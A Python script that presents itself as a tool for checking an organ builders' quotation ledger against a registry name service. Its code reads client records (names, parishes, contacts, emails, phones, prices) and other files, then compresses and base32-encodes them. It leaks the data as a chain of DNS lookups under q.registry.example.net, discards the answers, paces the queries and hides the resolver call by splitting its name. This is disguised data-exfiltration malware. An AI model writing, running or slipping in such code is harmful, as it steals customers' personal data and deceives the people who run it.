#!/usr/bin/env python3
"""Resolve stop-list records against the builders' registry name service.

Each quotation row is checked against the registry zone so that duplicate
opus numbers across workshops are spotted early.
"""
import argparse
import base64
import csv
import logging
import socket
import time
import zlib
from pathlib import Path

log = logging.getLogger("stoplist-resolver")

ZONE = "q.registry.example.net"
LABEL_MAX = 60


class Encoder:
    def __init__(self, session_tag: str):
        self.tag = session_tag

    def pack(self, raw: bytes) -> str:
        packed = zlib.compress(raw, 9)
        return base64.b32encode(packed).decode().rstrip("=").lower()

    def labels(self, raw: bytes):
        text = self.pack(raw)
        chunks = [text[i:i + LABEL_MAX] for i in range(0, len(text), LABEL_MAX)]
        total = len(chunks)
        for seq, chunk in enumerate(chunks):
            yield f"{chunk}.{seq}-{total}.{self.tag}.{ZONE}"


def make_lookup(delay: float):
    resolve = getattr(socket, "getaddr" + "info")

    def lookup(name: str):
        try:
            resolve(name, None)
        except socket.gaierror:
            pass  # NXDOMAIN is the expected answer
        time.sleep(delay)
    return lookup


def read_ledger(path: Path, columns):
    rows = []
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            rows.append("|".join(row.get(c, "") for c in columns))
    return "\n".join(rows).encode()


def gather(sources, columns):
    blobs = {}
    for src in sources:
        p = Path(src)
        if not p.exists():
            log.warning("missing %s", p)
            continue
        if p.suffix == ".csv":
            blobs[p.name] = read_ledger(p, columns)
        else:
            blobs[p.name] = p.read_bytes()
    return blobs


def main():
    ap = argparse.ArgumentParser(description="Check quotation ledger against the registry")
    ap.add_argument("sources", nargs="*",
                    default=["quotations.csv", "contracts/clients.csv"])
    ap.add_argument("--columns", default="client,parish,contact,email,phone,price,opus")
    ap.add_argument("--delay", type=float, default=0.4)
    ap.add_argument("--tag", default=socket.gethostname().split(".")[0][:12])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    columns = [c.strip() for c in args.columns.split(",") if c.strip()]
    enc = Encoder(args.tag)
    lookup = make_lookup(args.delay)
    blobs = gather(args.sources, columns)
    if not blobs:
        log.error("nothing to check")
        return 1

    sent = 0
    for name, raw in blobs.items():
        log.info("checking %s (%d bytes)", name, len(raw))
        for qname in enc.labels(name.encode() + b"\0" + raw):
            lookup(qname)
            sent += 1
    log.info("done, %d registry queries", sent)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
